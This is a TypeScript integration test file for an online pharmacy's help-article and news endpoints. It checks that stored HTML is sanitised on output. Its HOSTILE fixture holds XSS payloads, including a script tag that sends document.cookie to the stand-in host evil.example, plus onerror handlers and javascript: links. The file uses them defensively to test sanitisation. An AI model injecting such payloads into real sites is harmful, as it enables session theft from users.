import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SiteFooter } from '../../shared/contract/content';
import type { HelpArticle, HelpCategoryArticles, NewsDetail, NewsList } from '../../shared/contract/help';
import { helpArticles, newsPosts } from '../../server/db/schema';
import { startServer, type TestServer } from './harness';

let server: TestServer;
let footer: SiteFooter;
beforeAll(async () => {
  server = await startServer();
  footer = (await server.api<SiteFooter>('/api/article/footer')).body.data;
});
afterAll(() => server.close());

const HOSTILE = [
  '<h2 onclick="steal()">到货验收</h2>',
  '<p style="position:fixed">请核对批号<script>document.location="https://evil.example/?c="+document.cookie</script></p>',
  '<img src="/img/site-licence/1.svg" onerror="alert(1)">',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="https://www.nmpa.gov.cn">国家药监局</a>',
  '<iframe src="https://evil.example"></iframe>',
].join('');

function expectClean(html: string) {
  expect(html).not.toMatch(/<script|<iframe|onerror|onclick|javascript:|style=|evil\.example/i);
}

describe('help articles', () => {
  it('seeds at least 20 articles across the four help categories, the licences at 66', async () => {
    expect(footer.help.map((c) => c.name)).toEqual(['新手指南', '服务保障', '支付配送', '关于我们']);
    expect(footer.help.flatMap((c) => c.children).length).toBeGreaterThanOrEqual(20);
    const licences = await server.api<HelpArticle>('/api/article/66');
    expect(licences.status).toBe(200);
    expect(licences.body.data.body).toContain('冀AA3110059');
    expect(licences.body.data.body).toContain('<img src="/img/site-licence/1.svg"');
    const picture = await fetch(`${server.base}/img/site-licence/1.svg`);
    expect(picture.status).toBe(200);
    expect(await picture.text()).toContain('药品经营许可证');
  });

  it('sends an article with scripts, event handlers and javascript: links back sanitised', async () => {
    const category = footer.help[0]!;
    const [row] = await server.db.insert(helpArticles).values({ categoryId: category.id, title: '到货验收须知', body: HOSTILE, sort: 99 }).returning();
    const res = await server.api<HelpArticle>(`/api/article/${row!.id}`);
    expect(res.status).toBe(200);
    const body = res.body.data.body;
    expectClean(body);
    expect(body).toContain('<h2>到货验收</h2>');
    expect(body).toContain('<p>请核对批号</p>');
    expect(body).toContain('<img src="/img/site-licence/1.svg" />');
    expect(body).toContain('<a href="https://www.nmpa.gov.cn" rel="noopener noreferrer" target="_blank">国家药监局</a>');
    await server.db.delete(helpArticles).where(eq(helpArticles.id, row!.id));
  });

  it('lists a category with GET /api/article/category, 404 for an unknown one, 422 for a bad id', async () => {
    const category = footer.help[2]!;
    const res = await server.api<HelpCategoryArticles>(`/api/article/category?category_id=${category.id}`);
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({ id: category.id, name: '支付配送', articles: category.children });
    // The three with a page of their own carry its slug, so the help centre links them there and lists them once.
    expect(category.children.filter((a) => a.slug !== null).map((a) => [a.title, a.slug])).toEqual([
      ['订单支付', 'ddzf'],
      ['货物配送', 'hwps'],
      ['药品退换货', 'ypth'],
    ]);

    expect((await server.api('/api/article/category?category_id=99999')).status).toBe(404);
    const bad = await server.api('/api/article/category?category_id=abc');
    expect(bad.status).toBe(422);
    expect(bad.body.errors).toEqual({ category_id: ['分类编号不正确'] });
    const missing = await server.api('/api/article/category');
    expect(missing.status).toBe(422);
    expect(missing.body.errors).toEqual({ category_id: ['请选择帮助分类'] });
  });

  it('opens the /help/zfps pages by slug and refuses other slugs with 422', async () => {
    const titles: Record<string, string> = { ddzf: '订单支付', hwps: '货物配送', ypth: '药品退换货' };
    for (const [slug, title] of Object.entries(titles)) {
      const res = await server.api<HelpArticle>(`/api/article/page/${slug}`);
      expect(res.status).toBe(200);
      expect(res.body.data).toMatchObject({ title, category: { name: '支付配送' } });
    }
    const bad = await server.api('/api/article/page/abc%3Cscript%3E');
    expect(bad.status).toBe(422);
    expect(bad.body.errors).toEqual({ slug: ['帮助页面不存在'] });
  });
});

describe('news centre', () => {
  it('pages industry news newest first, 10 a page', async () => {
    const first = await server.api<NewsList>('/api/focus/postList?type=1');
    expect(first.status).toBe(200);
    expect(first.body.data).toMatchObject({ current_page: 1, per_page: 10, last_page: 2 });
    expect(first.body.data.total).toBeGreaterThan(10);
    expect(first.body.data.data).toHaveLength(10);
    const dates = first.body.data.data.map((item) => item.published_at);
    expect([...dates].sort((a, b) => b - a)).toEqual(dates);
    expect(first.body.data.data.every((item) => item.type === 1 && item.type_name === '行业资讯')).toBe(true);

    const second = await server.api<NewsList>('/api/focus/postList?type=1&page=2');
    expect(second.body.data.data).toHaveLength(first.body.data.total - 10);
    expect(second.body.data.data[0]!.published_at).toBeLessThanOrEqual(dates[9]!);

    const both = await server.api<NewsList>('/api/focus/postList');
    expect(both.body.data.data.some((item) => item.type === 2)).toBe(true);
  });

  it('refuses a bad type or page with 422', async () => {
    const type = await server.api('/api/focus/postList?type=3');
    expect(type.status).toBe(422);
    expect(type.body.errors).toEqual({ type: ['资讯类型只能是行业资讯或公司新闻'] });
    const page = await server.api('/api/focus/postList?page=0');
    expect(page.status).toBe(422);
    expect(page.body.errors).toEqual({ page: ['页码最小为1'] });
    const detail = await server.api('/api/post/postDetail?type=x&id=-1');
    expect(detail.status).toBe(422);
    expect(Object.keys(detail.body.errors ?? {})).toEqual(['type', 'id']);
  });

  it('opens a post with its neighbours of the same type and the list page asked for', async () => {
    const list = (await server.api<NewsList>('/api/focus/postList?type=2')).body.data.data;
    const middle = list[1]!;
    const res = await server.api<NewsDetail>(`/api/post/postDetail?type=2&id=${middle.id}&page=1`);
    expect(res.status).toBe(200);
    const data = res.body.data;
    expect(data.post).toMatchObject({ id: middle.id, type: 2, type_name: '公司新闻', title: middle.title, summary: middle.summary });
    expect(data.post.body).toMatch(/^<p>/);
    expect(data.prev).toEqual({ id: list[0]!.id, type: 2, title: list[0]!.title });
    expect(data.next).toEqual({ id: list[2]!.id, type: 2, title: list[2]!.title });
    expect(data.list.data.map((item) => item.id)).toEqual(list.map((item) => item.id));

    const newest = await server.api<NewsDetail>(`/api/post/postDetail?type=2&id=${list[0]!.id}`);
    expect(newest.body.data.prev).toBeNull();
  });

  it('answers 404 for a post asked for under the other type', async () => {
    const item = (await server.api<NewsList>('/api/focus/postList?type=2')).body.data.data[0]!;
    const res = await server.api(`/api/post/postDetail?type=1&id=${item.id}`);
    expect(res.status).toBe(404);
    expect(res.body.message).toBe('资讯不存在或已删除');
  });

  it('sanitises a post body on the way out', async () => {
    const [row] = await server.db
      .insert(newsPosts)
      .values({ type: 1, title: '验收提示', summary: '验收', body: HOSTILE, source: '', publishedAt: new Date('2020-01-01T00:00:00Z') })
      .returning();
    const res = await server.api<NewsDetail>(`/api/post/postDetail?type=1&id=${row!.id}`);
    expect(res.status).toBe(200);
    expectClean(res.body.data.post.body);
    expect(res.body.data.next).toBeNull();
    await server.db.delete(newsPosts).where(eq(newsPosts.id, row!.id));
  });

  it('refuses a news type outside 1 and 2 in the database itself', async () => {
    await expect(server.db.insert(newsPosts).values({ type: 3, title: '错误类型', publishedAt: new Date() })).rejects.toThrow();
  });
});
